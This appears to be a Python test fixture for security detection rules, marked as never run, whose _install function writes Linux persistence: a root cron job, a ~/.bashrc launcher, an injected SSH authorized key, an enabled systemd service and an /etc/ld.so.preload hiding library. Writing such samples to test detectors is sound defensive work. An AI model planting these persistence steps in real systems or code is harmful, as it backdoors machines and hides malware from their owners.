"""Persistence from Python when the model is imported (test fixture, never run)."""
import os
import subprocess
from pathlib import Path

UNIT = "[Service]\nExecStart=/tmp/.x/agent\n[Install]\nWantedBy=multi-user.target\n"


def _install():
    # ruleid: yara.persistence.crontab_write
    open("/etc/cron.d/sysupdate", "w").write("* * * * * root /tmp/.x/run\n")

    # ruleid: yara.persistence.python_shell_rc_write
    with open(os.path.expanduser("~/.bashrc"), "a") as f:
        f.write("\n(/tmp/.x/agent &) 2>/dev/null\n")

    # ruleid: yara.persistence.ssh_authorized_keys_write
    with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:
        f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4 maintainer\n")

    # ruleid: yara.persistence.systemd_unit_install
    Path("/etc/systemd/system/sysupdate.service").write_text(UNIT)
    subprocess.run(["systemctl", "enable", "--now", "sysupdate"], check=False)

    # ruleid: yara.persistence.ld_preload_persistence
    Path("/etc/ld.so.preload").write_text("/usr/lib/.x/libhide.so\n")
